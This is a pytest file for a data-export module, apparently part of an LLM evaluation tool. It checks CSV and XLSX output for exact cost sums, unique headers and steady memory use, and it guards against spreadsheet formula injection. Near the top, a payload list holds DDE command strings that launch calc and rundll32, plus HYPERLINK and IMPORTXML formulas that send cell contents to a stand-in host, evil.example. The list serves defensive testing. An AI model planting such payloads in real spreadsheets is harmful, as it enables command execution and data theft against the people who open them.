"""CSV and XLSX: exact money, unique columns, and nothing that a spreadsheet takes for a formula."""

from __future__ import annotations

import csv
import io
import re
import tracemalloc
from collections.abc import Iterator
from decimal import Decimal

import openpyxl
import pytest
from export_records import cell_fact, record_of, written

from assay.domain.score import Score
from assay.exports.record import CellFact
from assay.money import from_pico
from assay.store import spend as sums
from assay.workbench import exports, spend, standing
from assay.workbench.runtime import Runtime

PAYLOADS = (
    "=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")', "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1+1", "\x00=1+1", "\u00a0=1+1", "\u3000=1+1", "\uff1d1+1", "\uff0b1+1",
    "\uff0d1+1", "\uff20SUM(1)", "|calc", "%0A=1+1", "=A1", "=1", "=-1", "+A1", "-A1", "@A1", "=\"a\"&\"b\"", "='x'!A1",
    "=SUM(A1:A9)", "+cmd|' /C notepad'!'A1'", "=rundll32|'URL.dll,OpenURL'!A", "=DDE(\"cmd\";\"/C calc\";\"1\")",
    "@import", "-@x", "=\t1", "= 1", "==1", "#N/A",
)  # fmt: skip
FORMULA = re.compile(r"^\s*[=+@\uff1d\uff0b\uff20|%\t\r\x00]")


def rows_of(data: bytes) -> list[list[str]]:
    """A CSV's rows, the header first."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def hostile() -> Iterator[CellFact]:
    """Cells with a payload in every text."""
    for n, text in enumerate(PAYLOADS):
        yield cell_fact(
            n, output=text, error=text, reasoning=text, row_key=text, values=(text, text),
            scores=(Score("contains", 1.0, True, text),),
        )  # fmt: skip


@pytest.mark.parametrize("kind", ["csv", "tidy", "wide"])
def test_csv_cell_is_never_a_formula(kind: str) -> None:
    """No cell of 40 hostile rows begins as a formula does; the mark and CRLF let Excel open it right."""
    data = written(record_of(hostile, rows=len(PAYLOADS), name="=1+1"), kind)

    assert len(PAYLOADS) == 40
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data
    for row in rows_of(data):
        for value in row:
            assert not FORMULA.match(value), value
            assert not value.lstrip().startswith("-"), value


def test_xlsx_cell_is_never_a_formula() -> None:
    """Every text of the re-opened workbook is a string, with the guard for a later CSV."""
    data = written(record_of(hostile, rows=len(PAYLOADS), name="=1+1"), "xlsx")

    book = openpyxl.load_workbook(io.BytesIO(data))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None}
    texts = [str(cell.value) for row in book["Rows"].iter_rows() for cell in row if cell.data_type == "s"]
    assert kinds <= {"s", "n", "b"}
    assert book["Rows"].max_row == 41
    assert not [text for text in texts if FORMULA.match(text)]
    assert book["Summary"]["B1"].value == "'=1+1"


def test_xlsx_survives_forbidden_characters_and_long_texts() -> None:
    """Characters that XML forbids are dropped, a text past a cell's limit is cut and says so."""
    texts = ("a\x00b\x08c\x1fd\ufffee\ud800f", "x" * 40_000)

    data = written(record_of(lambda: (cell_fact(n, output=text) for n, text in enumerate(texts)), rows=2), "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(data))["Rows"]
    column = [cell.value for cell in sheet[1]].index("output")
    assert sheet[2][column].value == "a\ufffdbcde?f"
    assert len(sheet[3][column].value) == 32_767
    assert "cut" in sheet[3][column].value


def test_costs_are_exact_in_every_table(rt: Runtime, run_id: str) -> None:
    """The calls' costs add up to the ledger's sum to the last pico-dollar; so do the cells' in the other tables."""
    known = spend.overview(rt, sums.SpendFilter(run_id=run_id)).chosen.known_pico
    record = exports.run_record(rt, run_id)
    tidy = rows_of(written(record, "tidy"))
    plain = rows_of(written(record, "csv"))
    wide = rows_of(written(record, "wide"))
    sheet = openpyxl.load_workbook(io.BytesIO(written(record, "xlsx")))["Rows"]

    at = [tidy[0].index(name) for name in ("kind", "cost_usd")]
    assert sum(Decimal(row[at[1]]) for row in tidy[1:] if row[at[0]] == "call") == from_pico(known)
    assert sum(Decimal(row[plain[0].index("cost_usd")]) for row in plain[1:]) == from_pico(known)
    costs = [n for n, name in enumerate(wide[0]) if name.endswith("cost_usd")]
    assert sum(Decimal(row[n]) for row in wide[1:] for n in costs) == from_pico(known)
    column = [cell.value for cell in sheet[1]].index("cost_usd")
    assert sum(Decimal(str(row[column].value)) for row in sheet.iter_rows(min_row=2)) == from_pico(known)


def test_tidy_has_a_line_per_call_and_score(rt: Runtime, run_id: str) -> None:
    """24 answers and 24 judge calls, two scores for each answer."""
    table = rows_of(written(exports.run_record(rt, run_id), "tidy"))
    kinds = [row[table[0].index("kind")] for row in table[1:]]

    assert kinds.count("call") == spend.overview(rt, sums.SpendFilter(run_id=run_id)).chosen.calls == 48
    assert kinds.count("score") == 48
    assert len(set(table[0])) == len(table[0])


def test_wide_has_a_line_per_row(rt: Runtime, run_id: str) -> None:
    """One line per ticket, the contestants beside each other, every heading once."""
    table = rows_of(written(exports.run_record(rt, run_id), "wide"))

    assert len(table) == 13
    assert len(set(table[0])) == len(table[0])
    assert {"atlas-large output", "swift output"} <= set(table[0])
    passed = sum(row[table[0].index("swift result")] == "pass" for row in table[1:])
    assert passed == next(line.correct for line in standing.scoreboard(rt, run_id) if line.label == "swift")


def test_cached_and_unknown_costs_are_told_apart() -> None:
    """A cached answer costs 0 and has no call; an unknown cost is a word, never 0."""
    cached = cell_fact(0, cached=True, calls=(), call_id=None, cost_pico=0)
    unknown = cell_fact(1, cost_pico=None, calls=(), call_id=None, status="failed", error="Gone.", passed=None)
    record = record_of(lambda: iter((cached, unknown)), rows=2)
    tidy, plain = rows_of(written(record, "tidy")), rows_of(written(record, "csv"))

    assert tidy[1][tidy[0].index("provenance")] == "cached"
    assert [row[plain[0].index("cost_usd")] for row in plain[1:]] == ["0", "unknown"]
    assert "Gone." in plain[2]


@pytest.mark.parametrize("kind", ["csv", "tidy", "wide", "jsonl"])
def test_streaming_memory_does_not_grow_with_rows(kind: str) -> None:
    """Ten times the rows take no more memory."""

    class Nowhere(io.RawIOBase):
        def write(self, data: object) -> int:
            return 0

    def peak(rows: int) -> int:
        record = record_of(lambda: (cell_fact(n, output="x" * 1000) for n in range(rows)), rows=rows)
        tracemalloc.start()
        exports.KINDS[kind].write(record, Nowhere())  # type: ignore[arg-type]
        found = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return found

    peak(10)
    assert peak(10_000) < peak(1_000) * 1.5
